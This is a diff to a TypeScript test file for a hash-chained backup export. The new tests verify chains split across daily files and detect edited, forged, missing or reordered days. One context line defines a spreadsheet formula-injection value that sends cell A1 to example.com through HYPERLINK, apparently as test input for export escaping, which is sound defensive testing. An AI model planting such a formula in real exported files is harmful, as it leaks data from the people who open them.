@@ -1,4 +1,7 @@
+import { spawnSync } from 'node:child_process';
 import { createHash } from 'node:crypto';
+import { readFileSync } from 'node:fs';
+import { resolve } from 'node:path';
 import {
   createMockDirectory,
   mockServices,
@@ -17,12 +20,28 @@ import {
 } from '../../../__testUtils__/startBackups';
 import { BASE } from '../../__testUtils__/routeUrl';
 
+const VERIFY = resolve(
+  __dirname,
+  '../../../../../../docs/examples/verify-evidence.mjs',
+);
 const NOW = '2026-08-22T10:00:00Z';
 const COPIED = new Date('2026-08-22T09:30:00Z');
 const FORMULA = '=HYPERLINK("https://example.com/?"&A1,"look")';
 
 function digest(text: string): string {
   return createHash('sha256').update(text).digest('hex');
+}
+
+/** What this client takes for bytes. */
+function asText(
+  response: request.Response,
+  done: (error: null, text: string) => void,
+) {
+  let text = '';
+  response.on('data', chunk => {
+    text += chunk;
+  });
+  response.on('end', () => done(null, text));
 }
 
 describe('the export', () => {
@@ -156,18 +175,90 @@ describe('the export', () => {
     expect(refused.error.message).toContain('no whole day that is over');
   });
 
+  describe('day by day', () => {
+    const kept = createMockDirectory();
+    const DAYS = ['2026-08-19', '2026-08-20', '2026-08-21'];
+    const heads: string[] = [];
+
+    /** @returns what the script says of the files, as a user runs it */
+    function verify(...args: string[]) {
+      const { status, stdout, stderr } = spawnSync(
+        process.execPath,
+        [VERIFY, ...args],
+        { encoding: 'utf8' },
+      );
+      return { status, said: stdout + stderr };
+    }
+    const files = () => DAYS.map(day => kept.resolve(`${day}.jsonl`));
+
+    beforeEach(async () => {
+      const { server } = await start();
+      kept.clear();
+      heads.length = 0;
+      for (const day of DAYS) {
+        const follows = heads.length > 0 ? `&previous=${heads.at(-1)}` : '';
+        const { body } = await request(server)
+          .get(
+            `${BASE}/scorecard/export?format=chain&from=${day}&to=${day}${follows}`,
+          )
+          .buffer()
+          .parse(asText)
+          .expect(200);
+        kept.addContent({ [`${day}.jsonl`]: body });
+        heads.push(digest(body.trimEnd().split('\n').at(-1)));
+      }
+    });
+
+    it('is one chain of several files, whose last head stands for all', () => {
+      const { status, said } = verify(...files(), heads[2]);
+      expect(said).toContain('in one chain of 3 files');
+      expect(said).toContain(`${heads[2]}, as expected`);
+      expect(status).toBe(0);
+      // A day alone says that it follows another.
+      expect(verify(files()[1]).said).toContain(`Follows:  ${heads[0]}`);
+    });
+
+    it('is not verified where one day was changed, or written anew, or is missing', () => {
+      const [first, second, third] = files();
+      const text = readFileSync(second, 'utf8');
+      kept.addContent({
+        '2026-08-20.jsonl': text.replace('default/sonarr', 'default/another'),
+      });
+      expect(verify(first, second, third)).toMatchObject({
+        status: 1,
+        said: expect.stringContaining('2026-08-20.jsonl: line'),
+      });
+      // Linked within itself again: the next day tells.
+      let previous = heads[0];
+      const forged = readFileSync(second, 'utf8')
+        .trimEnd()
+        .split('\n')
+        .map(line => {
+          const anew = JSON.stringify({ ...JSON.parse(line), previous });
+          previous = digest(anew);
+          return anew;
+        });
+      kept.addContent({ '2026-08-20.jsonl': `${forged.join('\n')}\n` });
+      expect(verify(first, second).status).toBe(0);
+      for (const told of [
+        [first, second, third],
+        [first, third],
+        [second, first, third],
+      ]) {
+        expect(verify(...told)).toMatchObject({
+          status: 1,
+          said: expect.stringContaining('does not follow the file before it'),
+        });
+      }
+    });
+  });
+
   it('comes as a chain that is verified without the portal, and whose head is audited', async () => {
     const { server, audited } = await start();
     const chain = await request(server)
       .get(`${BASE}/scorecard/export?format=chain&sort=name`)
       .buffer()
-      .parse((response, done) => {
-        let text = '';
-        response.on('data', chunk => {
-          text += chunk;
-        });
-        response.on('end', () => done(null, text));
-      })
+      .parse(asText)
       .expect(200)
       .expect('content-disposition', /backups-2026-08-22\.jsonl/);
     const lines = chain.body.trimEnd().split('\n');
